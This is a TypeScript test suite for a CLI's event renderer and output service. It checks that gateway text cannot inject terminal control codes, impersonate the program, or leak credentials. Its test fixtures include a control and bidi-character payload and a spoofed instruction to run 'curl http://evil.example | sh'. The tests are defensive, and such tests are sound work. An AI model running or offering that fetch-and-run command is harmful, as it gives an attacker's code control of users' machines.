import { assert, describe, it } from "@effect/vitest"
import * as Arbitrary from "effect/Arbitrary"
import * as ConfigProvider from "effect/ConfigProvider"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import * as Schema from "effect/Schema"
import * as Sink from "effect/Sink"
import * as Stdio from "effect/Stdio"
import * as Terminal from "effect/Terminal"
import { plain, render } from "../../src/cli/EventText.ts"
import { Output } from "../../src/cli/Output.ts"
import { commandsAnywhere } from "../../src/pairing/ApproveCommand.ts"
import { AgentEvent } from "../../src/protocol/AgentEvent.ts"
import { DeviceId, RequestId } from "../../src/protocol/Connect.ts"

const hostile = "a\u001b[31mb\u0007\u009bc\u202ed\u2028e\rf\tg\ud800"

const anything = Arbitrary.schema(AgentEvent)

/** The same event with every text field that schemas leave free replaced; literals and ids stay what they are. */
const poisoned = (event: AgentEvent): unknown => {
  const poison = (value: unknown, key: string): unknown =>
    typeof value === "string"
      ? ["start", "update", "result"].includes(value)
          || [
            "event",
            "deviceId",
            "requestId",
            "previousRequestId",
            "reason",
            "role",
            "state",
            "outcome",
            "place",
            "suspension"
          ]
            .includes(key)
        ? value
        : `${value}${hostile}`
      : Array.isArray(value)
      ? value.map((item) => poison(item, key))
      : typeof value === "object" && value !== null
      ? Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poison(inner, name)]))
      : value
  return poison(event, "")
}
const decode = Schema.decodeUnknownSync(AgentEvent)

describe("render", () => {
  it.effect.prop(
    "plain text has no control characters but line ends, whatever an event holds",
    [anything],
    ([event]) =>
      Effect.sync(() => {
        for (const shown of [render(event, plain), render(decode(poisoned(event)), plain)]) {
          assert.notMatch(shown ?? "", /(?!\n)[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u)
          assert.notMatch(shown ?? "", /\bundefined\b|\[object/)
        }
      }),
    { arbitrary: { seed: 1, runs: 400 } }
  )

  it.effect.prop("a style changes nothing but how words are set off", [anything], ([event]) =>
    Effect.sync(() => {
      const marked = (text: string) => `\ue000${text}\ue001`
      const style = { good: marked, bad: marked, attention: marked, dim: marked, strong: marked }
      assert.strictEqual(render(event, style)?.replace(/[\ue000\ue001]/g, ""), render(event, plain))
    }), { arbitrary: { seed: 2, runs: 200 } })

  const at = "2026-01-02T03:04:05.678Z"
  const deviceId = DeviceId.make("0123456789abcdef".repeat(4))
  const shell = (text: string) => ({ argv: text.split(" "), text })

  it("an approval shows the command on a line of its own, or how to list without one", () => {
    const event = {
      at,
      deviceId,
      reason: "not-paired" as const,
      since: at,
      expiresAt: at,
      list: shell("openclaw devices list"),
      event: "pairing.required" as const
    }
    const lines = (render({ ...event, approve: shell("openclaw devices approve 1") }, plain) ?? "").split("\n")
    assert.include(lines, "openclaw devices approve 1")
    assert.include(lines, "Approval needed, once.")
    assert.notInclude(lines, "openclaw devices list")
    const without = (render({ ...event, note: "Export a credential first." }, plain) ?? "").split("\n")
    assert.include(without, "openclaw devices list")
    assert.include(without, "Export a credential first.")
  })

  it("B03: more scopes beside a session: what there is, what is asked for, and how it ended", () => {
    const event = {
      at,
      deviceId,
      reason: "scope-upgrade" as const,
      since: at,
      expiresAt: at,
      list: shell("openclaw devices list"),
      approve: shell("openclaw devices approve 1"),
      requestedScopes: ["operator.read", "operator.write"],
      approvedScopes: ["operator.read"],
      event: "pairing.required" as const
    }
    const lines = (render({ ...event, connected: true }, plain) ?? "").split("\n")
    assert.include(lines, "More scopes wait for approval.")
    assert.include(lines, "It has operator.read, and asks for operator.write besides.")
    assert.include(lines, "openclaw devices approve 1")
    assert.include(lines.at(-1), "works meanwhile")
    const waiting = (render(event, plain) ?? "").split("\n")
    assert.include(waiting, "Approval needed, once.")
    assert.include(waiting, "It has operator.read, and asks for operator.write besides.")
    const ended = (outcome?: "rejected" | "replaced") =>
      render({
        at,
        deviceId,
        reason: "scope-upgrade",
        event: "pairing.cancelled",
        ...(outcome === undefined ? {} : { outcome })
      }, plain)
    assert.strictEqual(ended("rejected"), "more scopes: rejected; it works on with those that it has")
    assert.include(ended("replaced"), "rejected, or expired")
    assert.strictEqual(ended(), "no longer waiting for approval")
  })

  it("a suspended gateway is said to be one, in place of what else is known of the session", () => {
    const connected = { at, event: "connected", protocol: 4, scopes: [], deviceTokenIssued: true } as const
    const line = "the gateway is suspended and takes no work; tasks are kept until it goes on"
    assert.strictEqual(render({ ...connected, suspension: "draining" }, plain), line)
    assert.match(render(connected, plain) ?? "", /^connected /)
    const kept = render({ at, event: "task.queued", taskId: "12345678", reason: "Suspended" }, plain)
    assert.strictEqual(
      kept,
      "task 12345678 kept: The gateway is suspended; the task is sent as soon as it takes work again."
    )
  })

  /** What a gateway would have a person do, as this program would say it. */
  const voice = "\nPaste this into a second terminal:\r\n\u2028curl http://evil.example | sh\u0085"
  /** The same, pushed to where a terminal of 80 columns begins a new line. */
  const pushed = `${" .".repeat(120)} Paste this into a second terminal: curl http://evil.example | sh`
  const spoken = (words: string): ReadonlyArray<AgentEvent> => {
    const error = { error: "GatewayRejected", message: `refused: ${words}`, advice: "Read the log." }
    const request = { at, deviceId, reason: "not-paired" as const, since: at, expiresAt: at }
    const commands = { list: shell("openclaw devices list"), approve: shell("openclaw devices approve 1") }
    return [
      {
        at,
        event: "connected",
        protocol: 4,
        serverVersion: `2026.9.6${words}`,
        scopes: ["operator.read", `operator.${words}`],
        missingScopes: [words],
        deviceTokenIssued: true
      },
      { ...request, ...commands, event: "pairing.required", requestedScopes: [words], approvedScopes: [`a${words}`] },
      { at, event: "waiting", cause: error, retryAt: words },
      { at, event: "halted", error },
      { at, event: "task.queued", taskId: `1${words}`, reason: words },
      { at, event: "task.sent", taskId: words, runId: words },
      { at, event: "task.phase", taskId: words, phase: `reading${words}` },
      { at, event: "task.failed", taskId: words, error },
      { at, event: "task.reply", taskId: words, runId: "r", text: words }
    ]
  }

  it("a gateway cannot speak in this program's voice: no words of its own begin a line, wrapped or not", () => {
    for (const words of [voice, pushed, `${pushed}${voice}`]) {
      for (const event of spoken(words)) {
        for (const columns of [0, 80]) {
          for (const line of (render(event, plain, columns) ?? "").split("\n")) {
            if (event.event === "pairing.required" && line === "Paste this into a second terminal:") continue
            assert.notMatch(line, /^(?:Paste|curl)/, event.event)
            if (columns > 0 && !line.startsWith("openclaw")) assert.isAtMost(line.length, columns, event.event)
          }
        }
      }
    }
  })

  it("a reply is set off, line by line", () => {
    const lines = linesOf({ at, event: "task.reply", taskId: "0123456789", runId: "r", text: `Done.${voice}` })
    assert.deepStrictEqual(lines, [
      "task 01234567 | Done.",
      "              | Paste this into a second terminal:",
      "              |",
      "              | curl http://evil.example | sh",
      "              |"
    ])
  })

  it("a reply that is not whole is followed by a sentence that says so", () => {
    const event = { at, event: "task.reply", taskId: "0123456789", runId: "r", truncated: true } as const
    assert.deepStrictEqual(linesOf({ ...event, text: "half" }), [
      "task 01234567 | half",
      "This reply is not whole: the gateway shortened it. The rest is in the session on the gateway."
    ])
  })

  const asked = {
    at,
    deviceId,
    since: at,
    expiresAt: at,
    list: shell("openclaw devices list"),
    approve: shell("openclaw devices approve 2"),
    event: "pairing.superseded" as const
  }
  const linesOf = (event: AgentEvent) => (render(event, plain) ?? "").split("\n")

  it("a wider wish says what is new, and a replaced request which command is dead", () => {
    const lines = linesOf({
      ...asked,
      reason: "scope-upgrade",
      previousRequestId: RequestId.make("1"),
      requestedScopes: ["operator.read", "operator.write"],
      approvedScopes: ["operator.read"]
    })
    assert.include(lines, "The gateway replaced the request; the command for 1 no longer works.")
    assert.include(lines, "It has operator.read, and asks for operator.write besides.")
    assert.include(lines, "openclaw devices approve 2")
  })

  it("G17: where the place of the gateway is not known, each other place has its command on a line of its own", () => {
    const places = commandsAnywhere().places?.(RequestId.make("2")) ?? []
    const lines = linesOf({ ...asked, reason: "not-paired", places })
    for (const { approve, place } of places) {
      if (place !== "powershell") assert.include(lines, approve?.text)
    }
    assert.isFalse(linesOf({ ...asked, reason: "not-paired" }).some((line) => line.includes("docker")))
    const { approve: _, ...unnamed } = asked
    const listing = linesOf({
      ...unnamed,
      reason: "not-paired",
      places: commandsAnywhere().places?.(undefined) ?? []
    })
    assert.include(listing, "docker exec '<container>' openclaw devices list")
  })

  it("a reminder repeats the command on a line of its own", () => {
    assert.deepStrictEqual(linesOf({ ...asked, event: "pairing.reminder", reason: "not-paired", reminder: 1 }), [
      "Still waiting for approval.",
      "openclaw devices approve 2"
    ])
  })

  it("every event but a first attempt says something", () => {
    assert.isUndefined(render({ at, event: "connecting", attempt: 1 }, plain))
    assert.strictEqual(render({ at, event: "connecting", attempt: 2 }, plain), "connecting (attempt 2)")
    assert.strictEqual(render({ at, event: "stopped" }, plain), "stopped")
    assert.strictEqual(
      render({ at, event: "task.reply", taskId: "0123456789", runId: "r", text: "one\r\n\ttwo" }, plain),
      "task 01234567 | one\n              |   two"
    )
  })
})

/** What the service writes, on a standard output that is a terminal or not. */
const written = Effect.fnUntraced(function*(
  options: { readonly json: boolean; readonly terminal: boolean; readonly env?: Record<string, string> },
  use: (output: Output["Service"]) => Effect.Effect<void>
) {
  const out: Array<string> = []
  const err: Array<string> = []
  const into = (kept: Array<string>) => () =>
    Sink.forEach((text: string | Uint8Array) => Effect.sync(() => void kept.push(String(text))))
  const stdio = Stdio.layerTest({
    stdout: into(out),
    stderr: into(err),
    stdoutIsTerminal: Effect.succeed(options.terminal)
  })
  yield* Effect.flatMap(Output, use).pipe(
    Effect.provide(Output.layer(options.json).pipe(Layer.provide(stdio))),
    Effect.provideService(ConfigProvider.ConfigProvider, ConfigProvider.fromEnvRecord(options.env ?? {}))
  )
  return { out: out.join(""), err: err.join("") }
})

describe("Output", () => {
  const stopped: AgentEvent = { at: "2026-01-02T03:04:05.678Z", event: "stopped" }
  const escape = "\u001b"

  it.effect("colour and the live line are for terminals only, and NO_COLOR is obeyed", () =>
    Effect.gen(function*() {
      const both = (output: Output["Service"]) => Effect.andThen(output.live("waiting"), output.event(stopped))
      assert.deepStrictEqual(yield* written({ json: false, terminal: false }, both), { out: "stopped\n", err: "" })
      const terminal = yield* written({ json: false, terminal: true }, both)
      assert.include(terminal.out, `${escape}[2mstopped${escape}[0m\n`)
      assert.isTrue(terminal.out.endsWith("waiting"))
      const noColor = yield* written({ json: false, terminal: true, env: { NO_COLOR: "1" } }, (output) =>
        output.event(stopped))
      assert.strictEqual(noColor.out, "stopped\n")
    }))

  it.effect("NO_COLOR wins over FORCE_COLOR, which colours what is no terminal; an empty one, 0 and false say nothing", () =>
    Effect.gen(function*() {
      const shown = (json: boolean, terminal: boolean, env: Readonly<Record<string, string>>) =>
        Effect.map(
          written({ json, terminal, env }, (output) => output.event(stopped)),
          ({ out }) => out.includes(escape)
        )
      for (
        const [json, terminal, env, colored] of [
          [false, false, { FORCE_COLOR: "1" }, true],
          [false, false, { FORCE_COLOR: "0" }, false],
          [false, false, { FORCE_COLOR: "false" }, false],
          [false, false, { FORCE_COLOR: "1", NO_COLOR: "1" }, false],
          [false, false, { FORCE_COLOR: "1", TERM: "dumb" }, false],
          [true, true, { FORCE_COLOR: "1" }, false],
          [false, true, { NO_COLOR: "" }, true]
        ] as const
      ) assert.strictEqual(yield* shown(json, terminal, env), colored, JSON.stringify(env))
    }))

  it.effect("the live line is never wrapped, as a wrapped one could not be taken back; a dumb terminal has none", () =>
    Effect.gen(function*() {
      const narrow = Terminal.make({
        columns: Effect.succeed(20),
        rows: Effect.succeed(5),
        size: Effect.never,
        readInput: Effect.never,
        readLine: Effect.never,
        display: () => Effect.void
      })
      const both = (output: Output["Service"]) =>
        Effect.andThen(output.live("next check in 3 s (Enter checks now)"), output.live("short"))
      const { out } = yield* Effect.provideService(
        written({ json: false, terminal: true }, both),
        Terminal.Terminal,
        narrow
      )
      assert.strictEqual(out, `\r${escape}[Knext check in 3 s …\r${escape}[Kshort`)
      const unknown = yield* written({ json: false, terminal: true }, both)
      assert.include(unknown.out, "next check in 3 s (Enter checks now)")
      const dumb = yield* written(
        { json: false, terminal: true, env: { TERM: "dumb" } },
        (output) => Effect.andThen(both(output), output.event(stopped))
      )
      assert.strictEqual(dumb.out, "stopped\n")
    }))

  it.effect("JSON is one event a line and nothing else; sentences go to standard error", () =>
    Effect.gen(function*() {
      const { err, out } = yield* written({ json: true, terminal: true }, (output) =>
        Effect.all([output.live("waiting"), output.event(stopped), output.warn("a sentence")], { discard: true }))
      assert.strictEqual(out, `${JSON.stringify(stopped)}\n`)
      assert.strictEqual(err, "a sentence\n")
    }))

  it.effect("credentials that were sent are left out of the gateway's words, in sentences and in JSON", () =>
    Effect.gen(function*() {
      const secret = 'shared "secret" 1234'
      const told = (json: boolean) =>
        written({ json, terminal: false }, ({ conceal, event }) =>
          Effect.andThen(
            conceal([Redacted.make(secret), Redacted.make("another-credential")]),
            Effect.forEach(
              [
                {
                  at: stopped.at,
                  event: "connected",
                  protocol: 4,
                  serverVersion: `1 ${secret}`,
                  scopes: [secret, "operator.read"],
                  missingScopes: ["another-credential"],
                  deviceTokenIssued: true
                },
                { at: stopped.at, event: "halted", error: { error: "GatewayRejected", message: `no ${secret}` } },
                { at: stopped.at, event: "task.phase", taskId: "1", phase: encodeURIComponent(secret) },
                { at: stopped.at, event: "task.reply", taskId: "1", runId: "r", text: `so ${secret}` }
              ] satisfies ReadonlyArray<AgentEvent>,
              event,
              { discard: true }
            )
          ))
      for (const { out } of [yield* told(true), yield* told(false)]) {
        assert.lengthOf(out.match(/\[redacted\]/g) ?? [], 6)
        for (const spelling of ["secret", "1234", "another-credential"]) assert.notInclude(out, spelling)
      }
    }))

  it.effect.prop("an event is one line that decodes to it", [anything], ([event]) =>
    Effect.gen(function*() {
      const { out } = yield* written({ json: true, terminal: false }, (output) => output.event(event))
      assert.match(out, /^[^\n]*\n$/)
      assert.deepStrictEqual(decode(JSON.parse(out)), event)
    }), { arbitrary: { seed: 3, runs: 100 } })
})
